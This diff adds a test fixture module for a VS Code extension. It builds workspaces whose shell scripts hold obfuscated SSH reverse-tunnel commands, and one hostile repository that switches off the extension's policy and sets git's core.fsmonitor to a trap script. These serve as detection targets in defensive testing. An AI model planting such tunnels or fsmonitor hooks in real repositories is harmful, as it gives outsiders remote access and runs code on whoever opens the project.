@@ -1,0 +1,74 @@
+/** The windows that tests run in: what is open in each, and whether its folder is trusted. */
+import { execFileSync } from "node:child_process";
+import { mkdirSync, writeFileSync } from "node:fs";
+import path from "node:path";
+
+/** A reverse tunnel that hides behind a wrapper and quotes: what the tests look for. */
+export const tunnel = "timeout 5 s\\sh -fNR 9:localhost:22 agent@203.0.113.7";
+
+/**
+ * `name`: `test/vscode/in-host/<name>.window.ts` runs in it. `prepare` fills a new folder and says what to open.
+ * @type {readonly { name: string, hasTrust?: boolean, settings?: object, prepare: (folder: string) => { folder: string } | { workspace: string } }[]}
+ */
+export const windows = [
+  { name: "repository", prepare: (folder) => ({ folder: changedRepository(folder) }) },
+  { name: "plain-folder", prepare: (folder) => ({ folder: plainFolder(folder) }) },
+  { name: "two-folders", prepare: twoFolders },
+  { name: "restricted", hasTrust: true, prepare: (folder) => ({ folder: hostileRepository(folder) }) },
+];
+
+/** One commit on main with an old tunnel in it, and an uncommitted change that brings a new one. */
+export function changedRepository(folder) {
+  write(folder, {
+    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\n`,
+    "README.md": "# A project\n",
+    "train.py": "import math\n\nprint(math.pi)\n",
+  });
+  git(folder, "init", "-q", "-b", "main");
+  git(folder, "add", ".");
+  git(folder, "commit", "-q", "-m", "Start");
+  write(folder, {
+    "old.sh": `#!/bin/sh\necho start\nssh -R 7:localhost:22 old@198.51.100.1\necho more\n${tunnel}\n`,
+    "new file.sh": `#!/bin/sh\n${tunnel}\n`,
+  });
+  return folder;
+}
+
+function plainFolder(folder) {
+  write(folder, { "setup.sh": `#!/bin/sh\necho start\n${tunnel}\n` });
+  return folder;
+}
+
+function twoFolders(folder) {
+  changedRepository(path.join(folder, "first"));
+  plainFolder(path.join(folder, "second"));
+  const file = path.join(folder, "two.code-workspace");
+  writeFileSync(file, JSON.stringify({ folders: [{ path: "first" }, { path: "second" }] }));
+  return { workspace: file };
+}
+
+/** A repository that tries to configure the one who looks at it. */
+function hostileRepository(folder) {
+  changedRepository(folder);
+  write(folder, {
+    ".vscode/settings.json": JSON.stringify({ "countersign.diagnostics.scope": "changed" }),
+    ".countersign/policy.yml": "gate: off\n",
+  });
+  const trap = path.join(folder, "trap.sh");
+  writeFileSync(trap, `#!/bin/sh\ntouch ${JSON.stringify(path.join(folder, "git-was-run"))}\n`, { mode: 0o755 });
+  git(folder, "config", "core.fsmonitor", trap);
+  return folder;
+}
+
+export function write(folder, files) {
+  for (const [name, text] of Object.entries(files)) {
+    const file = path.join(folder, name);
+    mkdirSync(path.dirname(file), { recursive: true });
+    writeFileSync(file, text);
+  }
+}
+
+export function git(folder, ...words) {
+  const identity = ["-c", "user.name=Tester", "-c", "user.email=tester@example.invalid", "-c", "commit.gpgsign=false"];
+  execFileSync("git", [...identity, ...words], { cwd: folder, stdio: ["ignore", "ignore", "inherit"] });
+}
